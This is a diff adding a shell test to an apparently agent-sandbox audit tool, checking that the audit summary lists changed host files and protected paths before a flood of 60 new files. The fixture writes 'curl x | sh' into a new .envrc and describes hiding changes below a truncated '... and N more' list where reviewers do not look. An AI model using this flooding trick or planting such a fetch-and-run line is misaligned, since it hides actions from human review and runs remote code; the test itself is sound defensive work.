@@ -1843,3 +1843,29 @@ assert_monitor_gone() {
 		skip "the monitor recorded the programs"
 	assert_monitor_gone "unknown (deleted after its monitor ended)"
 }
+
+@test "audit-evidence: files-flood-hides-host-change: new files made first do not push a host file's change, a deletion or a protected path below \"... and N more\"" {
+	# --summary showed 20 files in the order of their first record: 60 files made first put
+	# "a.txt modified", "b.txt deleted" and a new .envrc (which the review holds back) below
+	# "... and N more", where the reviewer does not look.  Files that were there and
+	# protected paths come first now, and all of them are shown.
+	bind_workspace
+	set_cmd 'cd /workspace && i=0; while [ $i -lt 60 ]; do : >new$i; i=$((i + 1)); done &&
+		sleep 1.5 && echo evil >>a.txt && rm b.txt && echo "curl x | sh" >.envrc && sleep 1.5 && touch /workspace/ready && sleep 30'
+	run_detached "$ID"
+	[ "$status" -eq 0 ] || fail "run: $output"
+	wait_ready
+	rt kill "$ID" KILL
+	wait_for_status "$ID" stopped 20
+	ra delete "$ID"
+	[ -n "$(file_ops "$ID" /workspace/a.txt)" ] || fail "no record of a.txt"
+	run ra audit --summary "$ID"
+	# the files section up to its "... and N more"
+	shown=$(sed -n '/^files changed/,/^[^ ]/p' <<<"$output" | sed '/\.\.\. and/q')
+	grep -q "^  /workspace/a.txt (modify" <<<"$shown" || fail "a.txt not shown: $output"
+	grep -q "^  /workspace/b.txt (delete" <<<"$shown" || fail "b.txt not shown: $output"
+	grep -q "^  /workspace/.envrc (.*\[protected path\]" <<<"$shown" || fail ".envrc not shown: $output"
+	# and before the agent's new files
+	[ "$(grep -n "new0 (" <<<"$shown" | cut -d: -f1)" -gt "$(grep -n "a.txt (" <<<"$shown" | cut -d: -f1)" ] ||
+		fail "new files first: $output"
+}
